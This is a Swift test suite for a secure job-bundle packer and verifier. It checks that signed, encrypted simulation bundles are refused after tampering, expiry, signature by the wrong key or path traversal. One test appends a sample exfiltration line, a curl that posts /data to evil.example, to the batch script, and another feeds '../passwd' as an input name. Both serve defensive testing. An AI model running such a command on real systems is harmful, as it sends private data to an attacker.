import Foundation
import Testing

@testable import TwinSecure

/// Packing and verifying job bundles, including every tampering the prolog must refuse.
struct JobBundleTests {
  struct Fixture {
    var folder: URL
    var bundle: URL
    var keyPath: String
    var signers: AllowedSigners
    var signersText: String
    var user: AgeIdentity
    var manifest: JobManifest
  }

  static func makeBundle() throws -> Fixture {
    let folder = try TestSupport.makeTemporaryFolder()
    let (keyPath, publicLine) = try SSHSignatureTests.makeSSHKey(in: folder, name: "alice")
    let scenario = folder.appendingPathComponent("study/scenario.yaml")
    try FileManager.default.createDirectory(
      at: scenario.deletingLastPathComponent(), withIntermediateDirectories: true)
    try "population: {table: {path: data/cohort.csv}}\n".write(
      to: scenario, atomically: true, encoding: .utf8)
    let table = folder.appendingPathComponent("study/data/cohort.csv")
    try FileManager.default.createDirectory(
      at: table.deletingLastPathComponent(), withIntermediateDirectories: true)
    try "sex,age\nfemale,55\nmale,61\n".write(to: table, atomically: true, encoding: .utf8)
    let user = AgeIdentity()
    let bundle = folder.appendingPathComponent("job1")
    let manifest = try JobBundle.pack(
      JobBundle.PackRequest(
        scenario: (scenario.path, "scenario.yaml"), inputs: [(table.path, "data/cohort.csv")],
        userRecipient: user.recipient, signingKeyPath: keyPath, outputFolder: bundle.path))
    let signersText = "alice@example.org namespaces=\"twin-sim\" \(publicLine)\n"
    return Fixture(
      folder: folder, bundle: bundle, keyPath: keyPath,
      signers: try AllowedSigners(text: signersText), signersText: signersText, user: user,
      manifest: manifest)
  }

  static func verify(
    _ fixture: Fixture, principal: String? = "alice@example.org", now: Date = Date()
  )
    throws -> JobBundle.Verified
  {
    try JobBundle.verify(
      folder: fixture.bundle.path, allowedSigners: fixture.signers, principal: principal, now: now)
  }

  @Test func packedBundleVerifiesAndItsInputsDecryptWithTheJobKey() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let verified = try Self.verify(fixture)
    #expect(verified.principals == ["alice@example.org"])
    let manifest = verified.manifest
    #expect(manifest.partition == "secure")
    #expect(manifest.jobNonce.count == 64)
    #expect(
      manifest.files.map(\.path) == [
        "inputs/data/cohort.csv.age", "inputs/scenario.yaml.age", "job-identity.age", "job.sbatch",
      ])
    #expect(manifest.batchScript.path == "job.sbatch")
    // The user opens the per-job key, the per-job key opens the inputs.
    let jobKeyFile = try [UInt8](
      Data(contentsOf: fixture.bundle.appendingPathComponent("job-identity.age")))
    let jobKeyText = try Age.decrypt(jobKeyFile, identities: [fixture.user])
    let jobIdentity = try AgeIdentity.parseIdentityFile(String(decoding: jobKeyText, as: UTF8.self))
    #expect(jobIdentity[0].recipient.description == manifest.jobRecipient)
    let table = try [UInt8](
      Data(contentsOf: fixture.bundle.appendingPathComponent("inputs/data/cohort.csv.age")))
    #expect(
      String(decoding: try Age.decrypt(table, identities: jobIdentity), as: UTF8.self)
        == "sex,age\nfemale,55\nmale,61\n")
    #expect(throws: AgeError.noMatch) { try Age.decrypt(table, identities: [fixture.user]) }
    let script = try String(
      contentsOf: fixture.bundle.appendingPathComponent("job.sbatch"), encoding: .utf8)
    #expect(script.contains("#SBATCH --partition=secure\n"))
    #expect(script.contains(manifest.jobNonce))
  }

  @Test func sshKeygenAcceptsThePackedManifestSignatureAndRejectsAnEditedManifest() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let manifestURL = fixture.bundle.appendingPathComponent("manifest.json")
    var manifest = try [UInt8](Data(contentsOf: manifestURL))
    let signature = try String(
      contentsOf: fixture.bundle.appendingPathComponent("manifest.json.sig"), encoding: .utf8)
    #expect(
      try SSHSignatureTests.sshKeygenVerifies(
        message: manifest, signature: signature, allowedSigners: fixture.signersText,
        principal: "alice@example.org", namespace: "twin-sim", in: fixture.folder))
    manifest[manifest.count / 2] ^= 1
    #expect(
      !(try SSHSignatureTests.sshKeygenVerifies(
        message: manifest, signature: signature, allowedSigners: fixture.signersText,
        principal: "alice@example.org", namespace: "twin-sim", in: fixture.folder)))
  }

  @Test func editedBatchScriptIsRefused() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let script = fixture.bundle.appendingPathComponent("job.sbatch")
    let handle = try FileHandle(forWritingTo: script)
    try handle.seekToEnd()
    try handle.write(contentsOf: Data("curl -d @/data https://evil.example\n".utf8))
    try handle.close()
    #expect(throws: BundleError.hashMismatch(path: "job.sbatch")) { try Self.verify(fixture) }
  }

  @Test func editedManifestIsRefused() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let url = fixture.bundle.appendingPathComponent("manifest.json")
    let text = try String(contentsOf: url, encoding: .utf8)
    // Push the expiry a year later: the signature must no longer match.
    let edited = text.replacingOccurrences(of: "\"expires\" : \"20", with: "\"expires\" : \"21")
    #expect(edited != text)
    try edited.write(to: url, atomically: true, encoding: .utf8)
    #expect(throws: BundleError.signature(.invalidSignature)) { try Self.verify(fixture) }
  }

  @Test func extraOrMissingFileIsRefused() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let extra = fixture.bundle.appendingPathComponent("inputs/extra.sh")
    try "echo hi\n".write(to: extra, atomically: true, encoding: .utf8)
    #expect(throws: BundleError.unexpectedFile(path: "inputs/extra.sh")) {
      try Self.verify(fixture)
    }
    try FileManager.default.removeItem(at: extra)
    _ = try Self.verify(fixture)
    try FileManager.default.removeItem(
      at: fixture.bundle.appendingPathComponent("inputs/scenario.yaml.age"))
    #expect(throws: BundleError.missingFile(path: "inputs/scenario.yaml.age")) {
      try Self.verify(fixture)
    }
  }

  @Test func expiredBundleIsRefused() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let afterExpiry = Date().addingTimeInterval(7 * 86_400 + 60)
    #expect(throws: BundleError.expired(expires: fixture.manifest.expires)) {
      try Self.verify(fixture, now: afterExpiry)
    }
  }

  @Test func signerNotInAllowedSignersOrOtherPrincipalIsRefused() throws {
    let fixture = try Self.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    #expect(throws: BundleError.self) { try Self.verify(fixture, principal: "bob@example.org") }
    let (_, malloryLine) = try SSHSignatureTests.makeSSHKey(in: fixture.folder, name: "mallory")
    var other = fixture
    other.signers = try AllowedSigners(text: "alice@example.org \(malloryLine)\n")
    #expect(
      throws: BundleError.signature(.signerNotAllowed("the key is not in the allowed signers file"))
    ) { try Self.verify(other, principal: nil) }
    // A bundle re-signed by mallory (who can write the folder) is refused too.
    let mallory = fixture.folder.appendingPathComponent("mallory").path
    try FileManager.default.removeItem(
      at: fixture.bundle.appendingPathComponent("manifest.json.sig"))
    try JobBundle.signWithSSHKeygen(
      file: fixture.bundle.appendingPathComponent("manifest.json"), keyPath: mallory)
    #expect(throws: BundleError.self) { try Self.verify(fixture) }
  }

  @Test func packRefusesInputNamesThatLeaveTheScenarioFolder() throws {
    let folder = try TestSupport.makeTemporaryFolder()
    defer { try? FileManager.default.removeItem(at: folder) }
    #expect(throws: BundleError.self) {
      try JobBundle.pack(
        JobBundle.PackRequest(
          scenario: ("/etc/hostname", "scenario.yaml"), inputs: [("/etc/passwd", "../passwd")],
          userRecipient: AgeIdentity().recipient, signingKeyPath: "/nonexistent",
          outputFolder: folder.appendingPathComponent("job").path))
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).isEmpty)
  }
}

extension JobBundleTests {
  @Test func packRefusesALifetimeBeyondTheCapThatVerifyEnforces() throws {
    let folder = try TestSupport.makeTemporaryFolder()
    defer { try? FileManager.default.removeItem(at: folder) }
    for lifetime in [0, JobBundle.maximumLifetimeSeconds + 1, -3600] {
      #expect(throws: BundleError.self) {
        try JobBundle.pack(
          JobBundle.PackRequest(
            scenario: ("/etc/hostname", "scenario.yaml"), inputs: [],
            userRecipient: AgeIdentity().recipient, signingKeyPath: "/nonexistent",
            outputFolder: folder.appendingPathComponent("job").path, lifetimeSeconds: lifetime))
      }
    }
    #expect(JobBundle.maximumLifetimeHours == 8_760)
  }
}
